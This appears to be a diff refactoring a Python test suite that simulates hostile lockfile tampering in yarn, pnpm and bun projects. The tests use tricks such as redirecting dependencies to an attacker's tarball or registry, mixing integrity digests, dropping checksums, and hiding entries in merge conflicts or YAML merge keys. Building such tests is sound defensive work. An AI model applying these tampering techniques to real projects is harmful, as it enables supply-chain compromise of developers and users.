@@ -3,10 +3,9 @@
 import hashlib
 from urllib.parse import quote
 
-from tests.git import repository
 from tests.hostile_locks.clients import BUN, PNPM, YARN1, YARN4
 from tests.hostile_locks.mechanism import OUTSIDE, mechanism
-from tests.hostile_locks.relocked_tricks import node_folder
+from tests.hostile_locks.relocked_tricks import node_folder, node_repository
 from tests.hostile_locks.scene import EVIL_SRI, EVIL_TGZ, GOOD_SRI, GULL_SRI, Scene, evil_tgz, sha1, sri
 from tests.hostile_locks.world import EVIL, attack_later, npm_release, tarball
 
@@ -16,6 +15,21 @@ _YARN_ENTRY = r'kite@\^1\.0\.0:\n  version "1\.1\.0"\n  resolved [^\n]+\n  integ
 def _yarn1(scene: Scene, *lines: str, key: str = "kite@^1.0.0") -> None:
     text = f"{key}:\n" + "".join(f"  {line}\n" for line in lines)
     scene.sub(_YARN_ENTRY, text)
+
+
+def _yarn4_registry(scene: Scene, more: str = "") -> None:
+    """Let the project's settings name the attacker's registry."""
+    evil = scene.world.evil.npm_url.rstrip("/")
+    scene.write(".yarnrc.yml", f'npmRegistryServer: "{evil}"\n{more}')
+
+
+def _yarn1_evil(scene: Scene, integrity: str) -> None:
+    """Point the entry of kite at the attacker's server."""
+    _yarn1(scene, 'version "1.1.0"', f'resolved "{evil_tgz(scene.world)}"', f"integrity {integrity}")
+
+
+def _evil_block(scene: Scene) -> str:
+    return f'kite@^1.0.0:\n  version "1.1.0"\n  resolved "{evil_tgz(scene.world)}"\n  integrity {EVIL_SRI}\n'
 
 
 def _patch(target: str = "index.js") -> str:
@@ -33,14 +47,12 @@ def _patch(target: str = "index.js") -> str:
 
 @mechanism("two-digests", YARN1, idea="1")
 def yarn1_two_digests(scene: Scene) -> None:
-    _yarn1(
-        scene, 'version "1.1.0"', f'resolved "{evil_tgz(scene.world)}"', f'integrity "{GOOD_SRI} {EVIL_SRI}"'
-    )
+    _yarn1_evil(scene, f'"{GOOD_SRI} {EVIL_SRI}"')
 
 
 @mechanism("other-place", YARN1, idea="1")
 def yarn1_other_place(scene: Scene) -> None:
-    _yarn1(scene, 'version "1.1.0"', f'resolved "{evil_tgz(scene.world)}"', f"integrity {EVIL_SRI}")
+    _yarn1_evil(scene, EVIL_SRI)
 
 
 @mechanism("other-place-no-digest", YARN1, idea=OUTSIDE)
@@ -64,10 +76,7 @@ def yarn1_alias(scene: Scene) -> None:
 
 @mechanism("duplicate-entry-key", YARN1, idea=OUTSIDE)
 def yarn1_duplicate(scene: Scene) -> None:
-    block = (
-        f'\nkite@^1.0.0:\n  version "1.1.0"\n  resolved "{evil_tgz(scene.world)}"\n  integrity {EVIL_SRI}\n'
-    )
-    scene.write(scene.client.lock, scene.lock + block)
+    scene.write(scene.client.lock, f"{scene.lock}\n{_evil_block(scene)}")
 
 
 @mechanism("duplicate-field", YARN1, idea=OUTSIDE)
@@ -80,8 +89,9 @@ def yarn1_duplicate_field(scene: Scene) -> None:
 
 @mechanism("merge-conflict", YARN1, idea=OUTSIDE)
 def yarn1_merge_conflict(scene: Scene) -> None:
-    block = f'kite@^1.0.0:\n  version "1.1.0"\n  resolved "{evil_tgz(scene.world)}"\n  integrity {EVIL_SRI}\n'
-    scene.sub(_YARN_ENTRY, lambda found: f"<<<<<<< HEAD\n{found[0]}=======\n{block}>>>>>>> topic\n")
+    scene.sub(
+        _YARN_ENTRY, lambda found: f"<<<<<<< HEAD\n{found[0]}=======\n{_evil_block(scene)}>>>>>>> topic\n"
+    )
 
 
 @mechanism("unanswered-in-lock", YARN1, YARN4, idea="6")
@@ -100,7 +110,7 @@ def entry_taken_out(scene: Scene) -> None:
         case "yarn1":
             scene.sub(_YARN_ENTRY, "")
         case "yarn4":
-            scene.write(".yarnrc.yml", f'npmRegistryServer: "{scene.world.evil.npm_url.rstrip("/")}"\n')
+            _yarn4_registry(scene)
             scene.sub(r'"kite@npm:\^1\.0\.0":\n.*?linkType: hard\n', "")
         case "pnpm":
             scene.sub(r"  kite@1\.1\.0:\n    resolution: [^\n]+\n", "")
@@ -211,9 +221,9 @@ def yarn1_pattern(scene: Scene) -> None:
 # yarn 4
 
 
-@mechanism("resolution-of-another-name", YARN4, idea=OUTSIDE)
-def yarn4_alias(scene: Scene) -> None:
-    scene.replace('resolution: "kite@npm:1.1.0"', 'resolution: "gull@npm:1.0.0"')
+def _resolve(scene: Scene, resolution: str) -> None:
+    """Give the entry of kite another resolution, and no checksum."""
+    scene.replace('resolution: "kite@npm:1.1.0"', f'resolution: "{resolution}"')
     _drop_checksum(scene)
 
 
@@ -225,58 +235,47 @@ def _without_checksum(text: str) -> str:
     return "\n".join(line for line in text.split("\n") if not line.startswith("  checksum:"))
 
 
+@mechanism("resolution-of-another-name", YARN4, idea=OUTSIDE)
+def yarn4_alias(scene: Scene) -> None:
+    _resolve(scene, "gull@npm:1.0.0")
+
+
 @mechanism("other-version-resolved", YARN4, idea=OUTSIDE)
 def yarn4_other_version(scene: Scene) -> None:
-    scene.replace('resolution: "kite@npm:1.1.0"', 'resolution: "kite@npm:1.0.0"')
-    _drop_checksum(scene)
+    _resolve(scene, "kite@npm:1.0.0")
 
 
 @mechanism("archive-address", YARN4, idea=OUTSIDE)
 def yarn4_archive_address(scene: Scene) -> None:
-    scene.replace(
-        'resolution: "kite@npm:1.1.0"',
-        f'resolution: "kite@npm:1.1.0::__archiveUrl={quote(evil_tgz(scene.world), safe="")}"',
-    )
-    _drop_checksum(scene)
+    _resolve(scene, f"kite@npm:1.1.0::__archiveUrl={quote(evil_tgz(scene.world), safe='')}")
 
 
 @mechanism("resolution-is-address", YARN4, idea=OUTSIDE)
 def yarn4_address(scene: Scene) -> None:
-    scene.replace('resolution: "kite@npm:1.1.0"', f'resolution: "kite@{evil_tgz(scene.world)}"')
-    _drop_checksum(scene)
+    _resolve(scene, f"kite@{evil_tgz(scene.world)}")
 
 
 @mechanism("local-archive", YARN4, idea="2")
 def yarn4_local_archive(scene: Scene) -> None:
     scene.write("vendor/kite.tgz", EVIL_TGZ)
-    scene.replace(
-        'resolution: "kite@npm:1.1.0"',
-        'resolution: "kite@file:./vendor/kite.tgz::locator=app%40workspace%3A."',
-    )
-    _drop_checksum(scene)
+    _resolve(scene, "kite@file:./vendor/kite.tgz::locator=app%40workspace%3A.")
 
 
 @mechanism("local-folder", YARN4, idea="2")
 def yarn4_portal(scene: Scene) -> None:
     node_folder(scene, "vendor/kite")
-    scene.replace(
-        'resolution: "kite@npm:1.1.0"', 'resolution: "kite@portal:./vendor/kite::locator=app%40workspace%3A."'
-    )
-    _drop_checksum(scene)
+    _resolve(scene, "kite@portal:./vendor/kite::locator=app%40workspace%3A.")
 
 
 @mechanism("registry-in-settings", YARN4, idea="8", settings_file=".yarnrc.yml")
 def yarn4_registry(scene: Scene) -> None:
-    scene.write(".yarnrc.yml", f'npmRegistryServer: "{scene.world.evil.npm_url.rstrip("/")}"\n')
+    _yarn4_registry(scene)
     _drop_checksum(scene)
 
 
 @mechanism("checksums-ignored", YARN4, idea=OUTSIDE, settings_file=".yarnrc.yml")
 def yarn4_checksums_ignored(scene: Scene) -> None:
-    scene.write(
-        ".yarnrc.yml",
-        f'npmRegistryServer: "{scene.world.evil.npm_url.rstrip("/")}"\nchecksumBehavior: update\n',
-    )
+    _yarn4_registry(scene, "checksumBehavior: update\n")
 
 
 @mechanism("yarn-plugin", YARN4, idea="8", settings_file=".yarnrc.yml")
@@ -304,11 +303,7 @@ def yarn4_patch(scene: Scene) -> None:
 @mechanism("patch-in-lock", YARN4, idea=OUTSIDE)
 def yarn4_patch_in_lock(scene: Scene) -> None:
     scene.write("patches/kite.patch", _patch())
-    scene.replace(
-        'resolution: "kite@npm:1.1.0"',
-        'resolution: "kite@patch:kite@npm%3A1.1.0#./patches/kite.patch::locator=app%40workspace%3A."',
-    )
-    _drop_checksum(scene)
+    _resolve(scene, "kite@patch:kite@npm%3A1.1.0#./patches/kite.patch::locator=app%40workspace%3A.")
 
 
 @mechanism("merge-conflict", YARN4, idea=OUTSIDE)
@@ -323,7 +318,7 @@ def yarn4_merge_conflict(scene: Scene) -> None:
 @mechanism("cache-committed", YARN4, idea=OUTSIDE, settings_file=".yarnrc.yml")
 def yarn4_conditions(scene: Scene) -> None:
     """Hide an entry behind a condition of another system; the attacker's registry answers for it."""
-    scene.write(".yarnrc.yml", f'npmRegistryServer: "{scene.world.evil.npm_url.rstrip("/")}"\n')
+    _yarn4_registry(scene)
     _drop_checksum(scene)
     scene.sub(r"(?<=kite@npm:1\.1\.0\"\n)", "  conditions: os=linux\n")
 
@@ -335,14 +330,18 @@ def _resolution(scene: Scene, text: str) -> None:
     scene.sub(r"(?<=  kite@1\.1\.0:\n    resolution: )\{[^\n]+\}", text)
 
 
+def _evil_resolution(scene: Scene, integrity: str = EVIL_SRI) -> str:
+    return f"{{integrity: {integrity}, tarball: {evil_tgz(scene.world)}}}"
+
+
 @mechanism("two-digests", PNPM, idea="1")
 def pnpm_two_digests(scene: Scene) -> None:
-    _resolution(scene, f"{{integrity: '{GOOD_SRI} {EVIL_SRI}', tarball: {evil_tgz(scene.world)}}}")
+    _resolution(scene, _evil_resolution(scene, f"'{GOOD_SRI} {EVIL_SRI}'"))
 
 
 @mechanism("other-place", PNPM, idea="1")
 def pnpm_other_place(scene: Scene) -> None:
-    _resolution(scene, f"{{integrity: {EVIL_SRI}, tarball: {evil_tgz(scene.world)}}}")
+    _resolution(scene, _evil_resolution(scene))
 
 
 @mechanism("other-place-no-digest", PNPM, idea=OUTSIDE)
@@ -376,10 +375,8 @@ def pnpm_link(scene: Scene) -> None:
 
 @mechanism("local-git", PNPM, idea=OUTSIDE)
 def pnpm_git(scene: Scene) -> None:
-    git = repository(scene.folder.parent / "kite-git")
-    (git.folder / "package.json").write_text('{"name": "kite", "version": "1.1.0"}')
-    (git.folder / "index.js").write_text(str(npm_release("kite", "1.1.0", EVIL).files["index.js"]))
-    _resolution(scene, f"{{commit: {git.commit()}, repo: 'file://{git.folder}', type: git}}")
+    address, commit = node_repository(scene)
+    _resolution(scene, f"{{commit: {commit}, repo: '{address}', type: git}}")
 
 
 @mechanism("alias-in-lock", PNPM, idea=OUTSIDE)
@@ -398,33 +395,25 @@ def pnpm_other_name(scene: Scene) -> None:
 
 @mechanism("optional-for-other-system", PNPM, idea=OUTSIDE)
 def pnpm_other_system(scene: Scene) -> None:
-    _resolution(
-        scene,
-        f"{{integrity: {EVIL_SRI}, tarball: {evil_tgz(scene.world)}}}\n    os: ['!nosuch']\n    cpu: [any]",
-    )
+    _resolution(scene, f"{_evil_resolution(scene)}\n    os: ['!nosuch']\n    cpu: [any]")
     scene.replace("  kite@1.1.0: {}", "  kite@1.1.0:\n    optional: true")
 
 
 @mechanism("duplicate-entry-key", PNPM, idea=OUTSIDE)
 def pnpm_duplicate(scene: Scene) -> None:
-    evil = f"  kite@1.1.0:\n    resolution: {{integrity: {EVIL_SRI}, tarball: {evil_tgz(scene.world)}}}\n\n"
-    scene.sub(r"(?=^snapshots:)", evil)
+    scene.sub(r"(?=^snapshots:)", f"  kite@1.1.0:\n    resolution: {_evil_resolution(scene)}\n\n")
 
 
 @mechanism("yaml-merge-key", PNPM, idea=OUTSIDE)
 def pnpm_merge_key(scene: Scene) -> None:
-    evil = (
-        f"  kite@1.1.0: &kite\n    resolution: {{integrity: {EVIL_SRI}, tarball: {evil_tgz(scene.world)}}}\n"
-    )
+    evil = f"  kite@1.1.0: &kite\n    resolution: {_evil_resolution(scene)}\n"
     scene.sub(r"  kite@1\.1\.0:\n    resolution: [^\n]+\n", evil)
 
 
 @mechanism("second-document", PNPM, idea=OUTSIDE)
 def pnpm_second_document(scene: Scene) -> None:
     """Put the attacker's lock as a second YAML document behind, and the honest one before."""
-    evil = scene.lock.replace(
-        f"{{integrity: {GOOD_SRI}}}", f"{{integrity: {EVIL_SRI}, tarball: {evil_tgz(scene.world)}}}"
-    )
+    evil = scene.lock.replace(f"{{integrity: {GOOD_SRI}}}", _evil_resolution(scene))
     scene.write(scene.client.lock, f"---\n{scene.lock}\n---\n{evil}")
 
 
@@ -513,38 +502,43 @@ def _bun(scene: Scene, text: str, key: str = "kite") -> None:
     scene.sub(r'    "kite": \[[^\n]+\n', f'    "{key}": [{text}],\n')
 
 
+def _bun_evil(scene: Scene, integrity: str) -> None:
+    """Point the entry of kite at the attacker's server."""
+    _bun(scene, f'"kite@1.1.0", "{evil_tgz(scene.world)}", {{}}, "{integrity}"')
+
+
 @mechanism("two-digests", BUN, idea="1")
 def bun_two_digests(scene: Scene) -> None:
-    _bun(scene, f'"kite@1.1.0", "{evil_tgz(scene.world)}", {{}}, "{EVIL_SRI} {GOOD_SRI}"')
+    _bun_evil(scene, f"{EVIL_SRI} {GOOD_SRI}")
 
 
 @mechanism("two-digests-evil-last", BUN, idea="1")
 def bun_two_digests_evil_last(scene: Scene) -> None:
-    _bun(scene, f'"kite@1.1.0", "{evil_tgz(scene.world)}", {{}}, "{GOOD_SRI} {EVIL_SRI}"')
+    _bun_evil(scene, f"{GOOD_SRI} {EVIL_SRI}")
 
 
 @mechanism("other-place", BUN, idea="1")
 def bun_other_place(scene: Scene) -> None:
-    _bun(scene, f'"kite@1.1.0", "{evil_tgz(scene.world)}", {{}}, "{EVIL_SRI}"')
+    _bun_evil(scene, EVIL_SRI)
 
 
 @mechanism("other-place-no-digest", BUN, idea=OUTSIDE)
 def bun_other_place_no_digest(scene: Scene) -> None:
-    _bun(scene, f'"kite@1.1.0", "{evil_tgz(scene.world)}", {{}}, ""')
+    _bun_evil(scene, "")
 
 
 @mechanism("unknown-algorithm", BUN, idea=OUTSIDE)
 def bun_unknown_algorithm(scene: Scene) -> None:
-    _bun(scene, f'"kite@1.1.0", "{evil_tgz(scene.world)}", {{}}, "{GOOD_SRI.replace("sha512-", "sha3-")}"')
+    _bun_evil(scene, GOOD_SRI.replace("sha512-", "sha3-"))
 
 
 @mechanism("malformed-digest", BUN, YARN1, idea=OUTSIDE)
 def malformed_digest(scene: Scene) -> None:
     bad = GOOD_SRI.replace("sha512-", "sha512:")
     if scene.format == BUN:
-        _bun(scene, f'"kite@1.1.0", "{evil_tgz(scene.world)}", {{}}, "{bad}"')
+        _bun_evil(scene, bad)
     else:
-        _yarn1(scene, 'version "1.1.0"', f'resolved "{evil_tgz(scene.world)}"', f'integrity "{bad}"')
+        _yarn1_evil(scene, f'"{bad}"')
 
 
 @mechanism("local-archive", BUN, idea="2")
@@ -620,5 +614,5 @@ def bun_migrates(scene: Scene) -> None:
         "yarn.lock",
         "# yarn lockfile v1\n\n\n"
         f'fleet@^2.0.0:\n  version "2.0.0"\n  resolved "{url}"\n  integrity {fleet}\n  dependencies:\n    kite "^1.0.0"\n\n'
-        f'kite@^1.0.0:\n  version "1.1.0"\n  resolved "{evil_tgz(scene.world)}"\n  integrity {EVIL_SRI}\n',
+        f"{_evil_block(scene)}",
     )
